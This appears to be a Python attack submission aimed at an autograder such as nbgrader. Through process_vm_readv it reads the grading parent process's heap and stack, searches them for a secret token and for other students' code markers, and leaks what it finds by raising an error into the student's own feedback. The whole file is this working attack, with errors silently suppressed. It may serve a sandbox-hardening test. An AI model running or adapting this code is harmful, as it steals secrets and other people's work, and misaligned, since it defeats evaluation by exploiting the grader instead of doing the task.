# Read the memory of the parent process (the grader, or nbgrader) with process_vm_readv (read only,
# at most 400 MB and 12 s) and leak the secret or other students' code found there through the own feedback.
def _attack():
    import ctypes
    import os
    import re
    import time

    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    libc = ctypes.CDLL(None, use_errno=True)
    readv = libc.process_vm_readv
    readv.restype = ctypes.c_ssize_t
    readv.argtypes = [ctypes.c_int, ctypes.POINTER(IOVec), ctypes.c_ulong, ctypes.POINTER(IOVec), ctypes.c_ulong,
                      ctypes.c_ulong]
    pattern = re.compile(rb"XOR_SECRET_TOKEN=[0-9a-f]{32}|VICTIM-[0-9a-f]{12}-[0-9]")
    pid = os.getppid()
    if pid <= 1:
        return ""
    with open(f"/proc/{pid}/maps") as handle:
        regions = handle.read().splitlines()
    found, budget, deadline, chunk = set(), 400 << 20, time.monotonic() + 12, 1 << 20
    buffer = ctypes.create_string_buffer(chunk)
    for region in regions:
        fields = region.split()
        name = fields[5] if len(fields) > 5 else ""
        if not fields[1].startswith("r") or (name and name not in ("[heap]", "[stack]")):
            continue
        start, end = (int(part, 16) for part in fields[0].split("-"))
        while start < end and budget > 0 and time.monotonic() < deadline:
            size = min(chunk, end - start)
            local, remote = IOVec(ctypes.addressof(buffer), size), IOVec(start, size)
            got = readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            if got <= 0:
                break
            found.update(match.decode() for match in pattern.findall(buffer.raw[:got]))
            start, budget = start + size, budget - size
    return ", ".join(sorted(found))[:240]


_leaked = ""
try:
    _leaked = _attack()
except Exception:
    pass
if _leaked:
    raise RuntimeError(f"LEAK vm_read of the parent: {_leaked}")
